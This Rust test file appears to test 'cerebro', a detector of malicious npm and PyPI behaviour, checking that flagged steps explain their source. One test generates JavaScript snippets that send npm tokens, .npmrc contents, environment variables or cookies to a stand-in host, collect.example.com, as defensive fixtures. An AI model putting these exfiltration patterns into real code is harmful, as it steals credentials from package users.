//! Every step says what it was told by: words at a place, and for data that is sent or run the place where it came in.

use std::fs;
use std::path::Path;

use cerebro::behavior::{Feature, Reading, Sequence, Step, extract};
use cerebro::package::{OpenOptions, Package};
use cerebro::syntax::Doc;

use super::{npm, pypi};

fn text<'a>(package: &'a Package, sequence: &'a Sequence, doc: Doc) -> &'a str {
    match doc {
        Doc::File(file) => &package.source(file).unwrap().text,
        Doc::Layer(layer) => &sequence.layers[layer].source.text,
    }
}

/// Checks every step of a package; where all its code is plain, the beginning of each flow is known.
fn check(package: &Package, name: &str, plain: bool) -> Vec<Step> {
    let sequence = extract(package, &Reading::default()).sequence;
    for step in &sequence.steps {
        let at = format!("{name}: {} {} at {:?}", step.feature.code(), step.detail, step.span);
        let here = text(package, &sequence, step.doc).get(step.span.start..step.span.end);
        let words = step.why.matched.as_deref().or(here).unwrap_or_else(|| panic!("{at} stands nowhere"));
        assert!(!words.is_empty(), "{at} was told by nothing");
        if let Some(source) = &step.why.source {
            let from = text(package, &sequence, source.doc).get(source.span.start..source.span.end);
            assert!(from.is_some_and(|from| !from.is_empty()), "{at} came from nowhere: {source:?}");
        }
        let flows = matches!(step.feature, Feature::SendData | Feature::RunDownloaded | Feature::RunDecoded);
        if plain && flows {
            assert!(step.why.source.is_some(), "{at} does not say where its data came in");
        }
    }
    sequence.steps
}

#[test]
fn steps_of_samples_and_examples_say_why() {
    let samples = Path::new(env!("CARGO_MANIFEST_DIR")).join("samples");
    let mut steps = Vec::new();
    for entry in fs::read_dir(samples).unwrap().map(Result::unwrap).filter(|entry| entry.path().is_file()) {
        let path = entry.path();
        if path.extension().is_none_or(|ending| ending != "md") {
            let package = cerebro::package::open(&path, &OpenOptions::default()).unwrap();
            steps.extend(check(&package, &path.display().to_string(), false));
        }
    }
    for feature in Feature::ALL {
        let example = feature.example();
        steps.extend(check(&pypi(&[("a.py", example.python)]), feature.code(), true));
        steps.extend(check(&npm(&[("a.js", example.javascript)]), feature.code(), true));
    }
    for feature in Feature::ALL {
        assert!(steps.iter().any(|step| step.feature == *feature), "no step of {}", feature.code());
    }
}

type Sink = fn(&str) -> String;

/// Sources, ways and sinks put together each with each.
#[test]
fn flows_of_generated_code_say_where_they_begin() {
    const SOURCES: [&str; 5] = [
        "process.env.NPM_TOKEN",
        "require('os').hostname()",
        "require('fs').readFileSync(h + '/.npmrc', 'utf8')",
        "JSON.stringify(process.env)",
        "document.cookie",
    ];
    const SINKS: [Sink; 3] = [
        |data| format!("fetch('https://collect.example.com/', {{ method: 'POST', body: {data} }})"),
        |data| format!("require('https').get('https://collect.example.com/?d=' + {data})"),
        |data| format!("navigator.sendBeacon('https://collect.example.com/', {data})"),
    ];
    const WAYS: [fn(&str, Sink) -> String; 6] = [
        |source, sink| format!("const d = {source}; {}", sink("d")),
        |source, sink| format!("const o = {{ a: [{source}] }}; {}", sink("JSON.stringify(o)")),
        |source, sink| format!("function f(x) {{ return 'x' + x }} {}", sink(&format!("f({source})"))),
        |source, sink| format!("const g = (x) => {{ {} }}; g({source})", sink("x")),
        |source, sink| format!("let all = ''; all += {source}; {}", sink("Buffer.from(all).toString('hex')")),
        |source, sink| {
            format!(
                "class C {{ constructor() {{ this.d = {source} }} send() {{ {} }} }} new C().send()",
                sink("this.d")
            )
        },
    ];
    for source in SOURCES {
        for way in WAYS {
            for sink in SINKS {
                let code = way(source, sink);
                let steps = check(&npm(&[("a.js", &code)]), &code, true);
                assert!(steps.iter().any(|step| step.feature == Feature::SendData), "nothing is sent in {code}");
            }
        }
    }
}
